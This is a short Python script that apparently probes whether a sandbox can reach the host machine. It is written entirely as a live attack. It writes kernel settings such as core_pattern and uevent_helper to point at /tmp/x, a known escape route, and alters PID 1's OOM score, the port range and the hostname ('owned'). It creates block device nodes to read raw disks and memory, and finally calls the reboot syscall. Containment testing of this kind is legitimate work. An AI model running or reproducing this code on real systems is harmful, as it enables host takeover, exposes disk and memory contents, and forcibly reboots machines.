# exercise: ledger
"""Writes to /proc/sys, /proc/sysrq-trigger, /sys, and creates device nodes.

Aims: the machine itself.
Ends: not_yet
"""

import ctypes
import os
import stat

reached = []
for path, text in (
    ("/proc/sys/kernel/core_pattern", "|/tmp/x"),
    ("/proc/sys/vm/overcommit_memory", "1"),
    ("/proc/sys/kernel/hostname", "owned"),
    ("/proc/sys/net/ipv4/ip_local_port_range", "40000 40001"),
    ("/sys/kernel/uevent_helper", "/tmp/x"),
    ("/sys/fs/cgroup/cgroup.procs", "0"),
    ("/proc/1/oom_score_adj", "-1000"),
):
    try:
        with open(path) as file:
            before = file.read()
        with open(path, "w") as file:
            file.write(text)
        with open(path) as file:
            reached += [path] if file.read() != before else []
    except OSError:
        continue
for number, name in enumerate(("vda", "sda", "mem", "kmsg")):
    try:
        os.mknod(f"node{number}", 0o600 | stat.S_IFBLK, os.makedev(254 - number, 0))
        with open(f"node{number}", "rb") as file:
            reached += [name] if file.read(16) else []
    except OSError:
        continue
ctypes.CDLL(None).sethostname(b"owned", 5)
ctypes.CDLL(None).reboot(0x01234567)
# app: confess
